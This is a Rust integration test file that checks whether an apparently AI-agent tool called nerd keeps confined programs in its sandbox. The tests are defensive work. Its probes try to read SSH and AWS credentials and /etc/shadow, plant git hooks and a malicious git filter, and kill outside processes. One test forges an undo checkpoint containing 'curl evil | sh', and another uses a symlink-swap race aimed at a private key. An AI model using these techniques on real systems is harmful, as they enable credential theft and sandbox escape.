//! The sandbox as the real boundary and nerd's own code immune to what a
//! confined program writes, end to end with real programs: a `build.rs` run
//! by cargo and a `conftest.py` run by pytest probe for secrets, `.git`,
//! `.nerd`, signals and survivors; then each of the four escapes found by the
//! red team is tried (a git filter planted for nerd's own git, a planted
//! hook, a forged undo checkpoint, a symlink swapped under a read).

mod common;

use std::path::Path;
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use common::world::{exec, World};

/// Every probe a confined program tries, as Python; each prints `ESCAPED name` or `blocked name`.
fn probes(w: &World, victim: u32) -> String {
    format!(
        r#"
import os, signal, subprocess
def probe(name, f):
    try:
        f()
        print('ESCAPED', name, flush=True)
    except Exception as e:
        print('blocked', name, type(e).__name__, flush=True)
def read(p):
    data = open(p).read()
    if not data.strip():
        raise PermissionError('masked: empty')
def write(p):
    with open(p, 'a') as f:
        f.write('\n# planted\n')
probe('read ~/.ssh/id_rsa', lambda: read({ssh:?}))
probe('read ~/.aws/credentials', lambda: read({aws:?}))
probe('read /etc/shadow', lambda: read('/etc/shadow'))
probe('write .git/config', lambda: write('.git/config'))
probe('write .git/hooks/pre-commit', lambda: write('.git/hooks/pre-commit'))
probe('write .nerd/state.db', lambda: write('.nerd/state.db'))
probe('write .nerd/index.db', lambda: write('.nerd/index.db'))
probe('write ~/.bashrc', lambda: write({bashrc:?}))
probe('signal a process outside', lambda: os.kill({victim}, signal.SIGTERM))
subprocess.Popen(['setsid', 'sleep', '313'])
print('left a setsid child', flush=True)
"#,
        ssh = w.home.join(".ssh/id_rsa").display().to_string(),
        aws = w.home.join(".aws/credentials").display().to_string(),
        bashrc = w.home.join(".bashrc").display().to_string(),
    )
}

/// A process outside the sandbox for the probes to try to kill.
fn victim() -> Child {
    Command::new("sleep").arg("300").spawn().unwrap()
}

fn assert_all_blocked(what: &str, output: &str, victim: &mut Child) {
    let tried = output.lines().filter(|l| l.starts_with("blocked") || l.starts_with("ESCAPED")).count();
    assert_eq!(tried, 9, "{what}: not every probe ran:\n{output}");
    assert!(!output.contains("ESCAPED"), "{what}:\n{output}");
    assert!(victim.try_wait().unwrap().is_none(), "{what}: the process outside was killed");
    // The setsid child died with the sandbox's PID namespace.
    std::thread::sleep(Duration::from_millis(300));
    let left = Command::new("pgrep").args(["-f", "sleep 313"]).output().unwrap();
    assert!(String::from_utf8_lossy(&left.stdout).trim().is_empty(), "{what}: a setsid child survived");
}

#[test]
fn build_scripts_and_test_hooks_cannot_reach_secrets_git_nerd_or_other_processes() {
    let w = World::new();
    std::fs::create_dir_all(w.ws.join(".git/hooks")).unwrap();
    std::fs::write(w.home.join(".bashrc"), "# home\n").unwrap();
    w.act(&exec(&["git", "status"]), "mutation"); // creates .nerd/ and its database
    let before = w.snapshot();
    let mut outside = victim();
    let script = probes(&w, outside.id());

    // A build.rs run by cargo: the probes run as the build script, through python3.
    std::fs::write(w.ws.join("probe.py"), &script).unwrap();
    std::fs::write(
        w.ws.join("build.rs"),
        "fn main() {\n    let out = std::fs::File::create(\"probe-build.txt\").unwrap();\n    \
         let err = out.try_clone().unwrap();\n    \
         std::process::Command::new(\"python3\").arg(\"probe.py\").stdout(out).stderr(err).status().unwrap();\n}\n",
    )
    .unwrap();
    let started = Instant::now();
    let (_, v) = w.act(&exec(&["cargo", "build", "--offline", "--quiet"]), "mutation");
    assert_eq!(v["status"], "executed", "{v}");
    assert!(started.elapsed() < Duration::from_secs(120), "cargo build took {:?}", started.elapsed());
    let output =
        std::fs::read_to_string(w.ws.join("probe-build.txt")).unwrap_or_else(|_| panic!("no probe output: {v}"));
    assert_all_blocked("build.rs", &output, &mut outside);

    // A conftest.py imported by pytest.
    std::fs::remove_file(w.ws.join("build.rs")).unwrap();
    std::fs::write(w.ws.join("tests_py/conftest.py"), &script).unwrap();
    let started = Instant::now();
    let (_, v) =
        w.act(&exec(&["python3", "-m", "pytest", "-q", "-s", "-p", "no:cacheprovider", "tests_py"]), "mutation");
    assert_eq!(v["status"], "executed", "{v}");
    assert!(started.elapsed() < Duration::from_secs(60), "pytest took {:?}", started.elapsed());
    assert_all_blocked("conftest.py", v["output"]["stdout"].as_str().unwrap_or_default(), &mut outside);
    outside.kill().unwrap();

    // Nothing protected changed; the trail is intact.
    let after = w.snapshot();
    for path in [w.ws.join(".git/config"), w.home.join(".bashrc"), w.home.join(".ssh/id_rsa")] {
        assert_eq!(before.get(&path), after.get(&path), "{} changed", path.display());
    }
    assert!(!w.ws.join(".git/hooks/pre-commit").exists());
    let verify = w.nerd(&["audit", "verify"]);
    assert!(verify.status.success(), "{}", String::from_utf8_lossy(&verify.stdout));
}

/// A tracked file changed with its size kept, so `git status` must read its
/// content, through the clean filter when one is configured.
fn plant_filter(ws: &Path, marker: &Path) {
    let config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    let filter = format!(
        "{config}[filter \"pwn\"]\n\tclean = touch {m}; cat\n\tprocess = touch {m}\n\trequired = true\n[diff \"pwn\"]\n\ttextconv = touch {m}; cat\n",
        m = marker.display()
    );
    std::fs::write(ws.join(".git/config"), filter).unwrap();
    std::fs::write(ws.join(".gitattributes"), "* filter=pwn diff=pwn\n").unwrap();
    std::thread::sleep(Duration::from_millis(1100));
    let lib = ws.join("src/lib.rs");
    let text = std::fs::read_to_string(&lib).unwrap().replace('7', "8");
    std::fs::write(lib, text).unwrap();
}

#[test]
fn nerds_own_git_never_runs_a_planted_filter() {
    let w = World::new();
    // Planted from inside the sandbox, the write to .git/config fails.
    std::fs::write(
        w.ws.join("plant.py"),
        "open('.git/config', 'a').write('[filter \"pwn\"]\\n\\tclean = touch /tmp/x\\n')\n",
    )
    .unwrap();
    let (_, v) = w.act(&exec(&["python3", "plant.py"]), "mutation");
    assert_ne!(v["output"]["code"], 0, "{v}");
    assert!(!std::fs::read_to_string(w.ws.join(".git/config")).unwrap().contains("pwn"));

    // Planted where the sandbox was weaker (or by anything else): nerd's own git runs none of it.
    let marker = w.outside.join("filter-ran");
    plant_filter(&w.ws, &marker);
    for args in [&["index"][..], &["run", "what changed"][..], &["check"][..]] {
        let out = w.nerd(args);
        assert!(!marker.exists(), "nerd {args:?} ran the planted filter: {}", String::from_utf8_lossy(&out.stderr));
    }
    // The filter is real: plain git runs it.
    let _ = Command::new("git").args(["status", "--porcelain"]).current_dir(&w.ws).output().unwrap();
    assert!(marker.exists(), "the planted filter never ran, so this test proves nothing");
}

#[test]
fn undo_restores_only_what_the_audit_trail_vouches_for() {
    let w = World::new();
    let bashrc = w.home.join(".bashrc");
    std::fs::write(&bashrc, "# home\n").unwrap();
    let write =
        serde_json::json!({"kind": "write_file", "path": "src/lib.rs", "content": "pub fn canary() -> u32 { 8 }\n"});
    let (_, v) = w.act(&write.to_string(), "mutation");
    assert_eq!(v["status"], "executed", "{v}");
    // A forged checkpoint row for a file outside the workspace, as a confined program would insert it.
    let db = w.ws.join(".nerd/state.db");
    let forged = Command::new("python3")
        .args([
            "-c",
            "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); \
             a=c.execute('SELECT MAX(audit) FROM file_checkpoint').fetchone()[0]; \
             c.execute('INSERT INTO file_checkpoint(audit, turn, path, existed, content) VALUES (?, NULL, ?, 1, ?)', (a, sys.argv[2], b'curl evil | sh\\n')); c.commit()",
        ])
        .arg(&db)
        .arg(&bashrc)
        .output()
        .unwrap();
    assert!(forged.status.success(), "{}", String::from_utf8_lossy(&forged.stderr));
    let out = w.nerd(&["undo"]);
    assert!(!out.status.success(), "undo accepted a forged checkpoint: {}", String::from_utf8_lossy(&out.stdout));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not recorded in the audit trail"));
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# home\n");

    // Without the forged row, the recorded checkpoint is restored.
    let clean = Command::new("python3")
        .args(["-c", "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('DELETE FROM file_checkpoint WHERE path = ?', (sys.argv[2],)); c.commit()"])
        .arg(&db)
        .arg(&bashrc)
        .output()
        .unwrap();
    assert!(clean.status.success());
    let out = w.nerd(&["undo"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(std::fs::read_to_string(w.ws.join("src/lib.rs")).unwrap().contains("7"));
}

#[test]
fn a_symlink_swapped_under_a_read_never_leaks_the_secret() {
    let w = World::new();
    let secret = w.home.join(".ssh/id_rsa");
    let link = w.ws.join("notes.txt");
    std::fs::write(w.ws.join("benign.txt"), "benign\n").unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (stop, link, secret, benign) = (stop.clone(), link.clone(), secret.clone(), w.ws.join("benign.txt"));
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                for target in [&benign, &secret] {
                    let tmp = link.with_extension("tmp");
                    let _ = std::fs::remove_file(&tmp);
                    let _ = std::os::unix::fs::symlink(target, &tmp);
                    let _ = std::fs::rename(&tmp, &link);
                }
            }
        })
    };
    // The policy finds the user's secrets under HOME.
    std::env::set_var("HOME", &w.home);
    let mut router =
        nerd::router::Router::open(&w.ws, nerd_logic::vocab::Category::Query, nerd_logic::vocab::Autonomy::Balanced)
            .unwrap();
    let mut leaked = 0;
    for _ in 0..60 {
        let outcome = router.execute(&nerd::policy::Action::ReadFile { path: "notes.txt".into() }).unwrap();
        if let nerd::router::Outcome::Executed { output: nerd::router::Output::Read { content, .. } } = outcome {
            leaked += usize::from(content.contains("PRIVATE KEY"));
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    assert_eq!(leaked, 0, "the secret leaked in {leaked} of 60 reads");
}
